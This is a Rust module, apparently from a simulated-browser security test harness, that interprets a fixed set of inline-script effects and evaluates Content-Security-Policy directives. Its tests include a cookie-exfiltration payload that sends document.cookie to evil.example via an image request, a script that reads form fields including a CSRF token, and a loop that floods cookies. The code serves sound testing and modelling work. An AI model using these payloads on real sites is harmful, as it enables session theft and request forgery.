//! What a script on a page may do here: a closed list.
//!
//! It may read and write `document.cookie`, read the fields of a form of its page and submit it, and
//! send a request (`fetch`, an image, a new location), and do one of these so many times. Anything else is reported as not understood, never passed over in silence.
//! Deliberately absent: a script engine.

mod expression;

use url::Url;

use super::Page;
use expression::{Cursor, Environment};

/// One thing a script does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Effect {
    /// `fetch(url, { method, body, credentials })`.
    Fetch {
        /// Where to.
        url: String,
        /// `GET` unless said otherwise.
        method: String,
        /// The body, if any.
        body: String,
        /// What it says it is: a string is plain text, `URLSearchParams` are a form.
        content_type: &'static str,
        /// `credentials: "include"`, or same-origin by default.
        include_credentials: bool,
    },
    /// `new Image().src = url`.
    Image(String),
    /// `location = url`.
    Navigate(String),
    /// `document.forms[n].submit()`.
    Submit(usize),
    /// `document.cookie = line`.
    Cookie(String),
}

/// A script that is not on the list, or a tag that would run one.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("this page does something that a simulated browser does not do: `{0}`")]
pub struct NotUnderstood(pub String);

/// The effects of an inline script, in order.
///
/// `cookie` is what `document.cookie` gives on this page when the script begins.
///
/// # Errors
/// The first statement that is not on the list.
pub fn effects(script: &str, cookie: &str, page: &Page) -> Result<Vec<Effect>, NotUnderstood> {
    let mut environment = Environment { cookie, location: page.url.as_str(), forms: &page.forms, counter: None };
    let mut cursor = Cursor::new(script);
    let mut found = Vec::new();
    while !cursor.at_end() {
        let begun = cursor.clone();
        match counted(&mut cursor) {
            Some(counted) => found.extend(
                repeated(&mut cursor, &counted, &mut environment).ok_or_else(|| NotUnderstood(begun.rest_of_line()))?,
            ),
            None => {
                cursor = begun.clone();
                found.push(statement(&mut cursor, &environment).ok_or_else(|| NotUnderstood(begun.rest_of_line()))?);
            }
        }
        cursor.skip_separators();
    }
    Ok(found)
}

/// The most rounds of a loop: more than any jar has room for.
const MOST_ROUNDS: usize = 1000;

/// The head of a loop: the counter's name, from where, and up to where.
struct Counted {
    name: String,
    from: usize,
    to: usize,
}

/// `for (let n = 0; n < 180; n++)`
fn counted(cursor: &mut Cursor<'_>) -> Option<Counted> {
    let eat = |cursor: &mut Cursor<'_>, texts: &[&str]| texts.iter().all(|text| cursor.eat(text)).then_some(());
    eat(cursor, &["for", "(", "let "])?;
    let name = cursor.word()?;
    eat(cursor, &["="])?;
    let from = cursor.number()?;
    eat(cursor, &[";", &name, "<"])?;
    let to = cursor.number()?;
    eat(cursor, &[";", &name, "++", ")"])?;
    (to.saturating_sub(from) <= MOST_ROUNDS).then_some(Counted { name, from, to })
}

/// One statement, once a round.
fn repeated(
    cursor: &mut Cursor<'_>,
    Counted { name, from, to }: &Counted,
    environment: &mut Environment<'_>,
) -> Option<Vec<Effect>> {
    let (body, mut found) = (cursor.clone(), Vec::new());
    for round in *from..*to {
        *cursor = body.clone();
        environment.counter = Some((name.clone(), round));
        found.push(statement(cursor, environment)?);
    }
    environment.counter = None;
    // A loop of no rounds would leave its body unread.
    (!found.is_empty()).then_some(found)
}

fn statement(cursor: &mut Cursor<'_>, environment: &Environment<'_>) -> Option<Effect> {
    if cursor.eat("fetch(") {
        return fetch(cursor, environment);
    }
    if cursor.eat("new Image().src") && cursor.eat("=") {
        return cursor.expression(environment).map(Effect::Image);
    }
    if cursor.eat("document.cookie") {
        return cursor.eat("=").then(|| cursor.expression(environment).map(Effect::Cookie))?;
    }
    if cursor.eat("document.forms[") {
        let form = cursor.number()?;
        return cursor.eat("].submit()").then_some(Effect::Submit(form));
    }
    if cursor.eat("location.href") || cursor.eat("window.location") || cursor.eat("location") {
        return cursor.eat("=").then(|| cursor.expression(environment).map(Effect::Navigate))?;
    }
    None
}

fn fetch(cursor: &mut Cursor<'_>, environment: &Environment<'_>) -> Option<Effect> {
    let url = cursor.expression(environment)?;
    let (mut method, mut body, mut include_credentials) = ("GET".to_owned(), String::new(), false);
    let mut content_type = "text/plain;charset=UTF-8";
    if cursor.eat(",") && cursor.eat("{") {
        while !cursor.eat("}") {
            let key = cursor.word()?;
            cursor.eat(":").then_some(())?;
            if key == "body" && cursor.comes("new URLSearchParams(") {
                content_type = "application/x-www-form-urlencoded;charset=UTF-8";
            }
            let value = cursor.expression(environment)?;
            match key.as_str() {
                "method" => method = value.to_ascii_uppercase(),
                "body" => body = value,
                "credentials" => include_credentials = value == "include",
                "mode" => {}
                _ => return None,
            }
            cursor.eat(",");
        }
    }
    cursor.eat(")").then_some(Effect::Fetch { url, method, body, content_type, include_credentials })
}

/// May an inline script run under this Content-Security-Policy (CSP level 3, section 6.7.3)?
#[must_use]
pub fn inline_script_allowed(csp: Option<&str>) -> bool {
    sources(csp, &["script-src-elem", "script-src", "default-src"])
        .is_none_or(|list| list.iter().any(|s| s.eq_ignore_ascii_case("'unsafe-inline'")))
}

/// May a script in an attribute run under it (CSP level 3, section 6.7.3, "script-src-attr")?
#[must_use]
pub fn handler_allowed(csp: Option<&str>) -> bool {
    sources(csp, &["script-src-attr", "script-src", "default-src"])
        .is_none_or(|list| list.iter().any(|s| s.eq_ignore_ascii_case("'unsafe-inline'")))
}

/// May a page load or send to this URL under a directive of its policy?
#[must_use]
pub fn request_allowed(csp: Option<&str>, directive: &str, page: &Url, target: &Url) -> bool {
    let Some(list) =
        sources(csp, &[directive, if matches!(directive, "form-action" | "navigate-to") { "" } else { "default-src" }])
    else {
        return true;
    };
    list.iter().any(|source| match source.as_str() {
        "*" => true,
        "'self'" => page.origin() == target.origin(),
        "'none'" => false,
        scheme if scheme.ends_with(':') => scheme.trim_end_matches(':') == target.scheme(),
        host => Url::parse(host).is_ok_and(|u| u.origin() == target.origin()) || target.host_str() == Some(host),
    })
}

/// The source list of the first of these directives that the policy has.
fn sources(csp: Option<&str>, directives: &[&str]) -> Option<Vec<String>> {
    let policy = csp?;
    directives.iter().find_map(|wanted| {
        policy.split(';').find_map(|directive| {
            let mut words = directive.split_whitespace();
            words.next().filter(|name| name.eq_ignore_ascii_case(wanted))?;
            Some(words.map(str::to_owned).collect())
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(script: &str) -> Result<Vec<Effect>, NotUnderstood> {
        let html = "<form action=/book><input name=csrf_token value=t1><input name=text value='a b'></form>";
        let page = Page::parse(&Url::parse("https://hotel.grand.example/book").unwrap(), html, None);
        effects(script, "sid=abc; lang=en", &page)
    }

    #[test]
    fn a_loop_does_one_thing_so_many_times_and_counts() {
        let script = "for (let n = 8; n < 11; n++) document.cookie = 'gift' + n + '=1; Secure';\nlocation = '/n'";
        let cookie = |n| Effect::Cookie(format!("gift{n}=1; Secure"));
        assert_eq!(run(script), Ok(vec![cookie(8), cookie(9), cookie(10), Effect::Navigate("/n".into())]));
        for bad in [
            "for (let n = 0; n < 1001; n++) document.cookie = 'a'",
            "for (let n = 0; n < 2; m++) document.cookie = 'a'",
            "for (let n = 0; n < 0; n++) document.cookie = 'a'",
            "for (let n = 0; n < 2; n++) alert(n)",
            "for (const n of [1, 2]) document.cookie = 'a'",
            "document.cookie = n",
        ] {
            assert_eq!(run(bad), Err(NotUnderstood(bad.to_owned())), "{bad}");
        }
    }

    #[test]
    fn a_script_can_send_the_cookie_away() {
        let sent = run("new Image().src = 'https://evil.example/?c=' + encodeURIComponent(document.cookie);").unwrap();
        assert_eq!(sent, vec![Effect::Image("https://evil.example/?c=sid%3Dabc%3B%20lang%3Den".into())]);
    }

    #[test]
    fn a_script_can_fetch_and_submit() {
        let done =
            run("fetch('/coats', { method: 'post', body: 'a=1', credentials: 'include' })\ndocument.forms[0].submit()")
                .unwrap();
        assert_eq!(done.len(), 2);
        assert_eq!(done[1], Effect::Submit(0));
    }

    #[test]
    fn a_script_can_take_what_stands_in_a_form_of_its_page() {
        let script = "fetch('/x', { method: 'POST', body: new URLSearchParams('coat=1&' + new URLSearchParams(new FormData(document.forms[0]))) })";
        let Effect::Fetch { body, content_type, .. } = run(script).unwrap().remove(0) else { panic!("{script}") };
        assert_eq!(body, "coat=1&csrf_token=t1&text=a+b");
        assert_eq!(content_type, "application/x-www-form-urlencoded;charset=UTF-8");
        let Effect::Fetch { content_type, .. } = run("fetch('/x', { body: 'a=1' })").unwrap().remove(0) else {
            panic!("not a fetch")
        };
        assert_eq!(content_type, "text/plain;charset=UTF-8", "a string is no form");
        assert!(run("fetch('/x', { body: new URLSearchParams(new FormData(document.forms[7])) })").is_err());
    }

    #[test]
    fn a_script_can_set_a_cookie() {
        assert_eq!(run("document.cookie = 'a=1; Path=/'").unwrap(), vec![Effect::Cookie("a=1; Path=/".into())]);
    }

    #[test]
    fn anything_else_is_said_not_skipped() {
        assert_eq!(run("alert(1); fetch('/x')").unwrap_err().0, "alert(1); fetch('/x')");
    }

    #[test]
    fn a_policy_without_unsafe_inline_keeps_inline_script_from_running() {
        assert!(inline_script_allowed(None));
        assert!(inline_script_allowed(Some("script-src 'self' 'unsafe-inline'")));
        assert!(!inline_script_allowed(Some("default-src 'self'")));
        assert!(inline_script_allowed(Some("img-src 'none'")));
        assert!(!handler_allowed(Some("default-src 'self'")));
        assert!(!handler_allowed(Some("script-src-attr 'none'; script-src 'unsafe-inline'")));
        assert!(handler_allowed(Some("script-src-elem 'self'; script-src 'unsafe-inline'")));
    }

    #[test]
    fn a_policy_names_where_a_page_may_send_to() {
        let page = Url::parse("https://hotel.grand.example/").unwrap();
        let evil = Url::parse("https://evil.example/x").unwrap();
        assert!(request_allowed(Some("img-src *"), "img-src", &page, &evil));
        assert!(!request_allowed(Some("default-src 'self'"), "img-src", &page, &evil));
        assert!(
            request_allowed(Some("default-src 'self'"), "form-action", &page, &evil),
            "form-action has no fallback"
        );
    }
}
